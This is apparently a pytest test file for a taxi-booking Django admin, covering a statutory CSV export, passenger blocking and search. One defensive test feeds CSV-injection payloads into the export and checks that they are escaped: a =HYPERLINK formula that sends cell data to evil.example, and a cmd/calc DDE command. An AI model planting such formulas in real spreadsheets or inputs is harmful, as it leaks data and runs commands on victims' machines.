"""Back office: the statutory booking record export and blocking passengers."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from bookings.models import Booking, Passenger

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client):
    user = get_user_model().objects.create_superuser("boss", "boss@example.co.uk", "pw")
    client.force_login(user)
    return client


def test_statutory_record_export_has_the_required_columns(staff_client, booking_factory):
    booking = booking_factory(job_ref="ACME-1")
    response = staff_client.post(
        "/admin/bookings/booking/",
        {"action": "export_statutory_record", "_selected_action": [booking.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, row = rows[0], rows[1]
    for column in (
        "Passenger name",
        "Time booked (UTC)",
        "Pickup time (UTC)",
        "Pickup",
        "Destination",
        "Fare quoted (GBP)",
        "Driver",
        "Driver licence",
        "Vehicle registration",
        "Subcontracted to",
    ):
        assert column in header
    record = dict(zip(header, row, strict=True))
    assert record["Reference"] == booking.reference
    assert record["Fare quoted (GBP)"] == "48.20"


def test_block_passenger_action_blocks_future_bookings(staff_client, booking_factory):
    booking = booking_factory()
    staff_client.post(
        "/admin/bookings/booking/",
        {"action": "block_passenger", "_selected_action": [booking.pk]},
    )
    assert Passenger.objects.get(email=booking.passenger_email).blocked


def test_booking_admin_search_finds_by_reference_email_phone_and_job_ref(
    staff_client, booking_factory
):
    booking = booking_factory(job_ref="ACME-77")
    booking_factory(passenger_email="other@example.co.uk", passenger_phone="+447700900999")
    for term in (booking.reference, "jo.bloggs@", "+447700900123", "ACME-77"):
        page = staff_client.get("/admin/bookings/booking/", {"q": term})
        assert booking.reference in page.content.decode(), term
    assert Booking.objects.count() == 2


def test_statutory_record_export_writes_passenger_formulas_as_text(staff_client, booking_factory):
    """Issue 13: "The statutory CSV export writes `=HYPERLINK(...)` and `@SUM(...)` from
    passenger input as formulas". Cells that a spreadsheet would run start with a quote."""
    booking = booking_factory(
        passenger_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        pickup="@SUM(1+1)*cmd|' /C calc'!A0",
        dropoff="\tLeeds station",
        passenger_phone="+447700900123",
    )
    response = staff_client.post(
        "/admin/bookings/booking/",
        {"action": "export_statutory_record", "_selected_action": [booking.pk]},
    )
    header, row = list(csv.reader(io.StringIO(response.content.decode())))[:2]
    record = dict(zip(header, row, strict=True))
    assert record["Passenger name"] == "'" + booking.passenger_name
    assert record["Pickup"] == "'" + booking.pickup
    assert record["Destination"] == "'\tLeeds station"
    # A plain number runs nothing and stays as it is.
    assert record["Passenger phone"] == "+447700900123"
    assert record["Fare quoted (GBP)"] == "48.20"
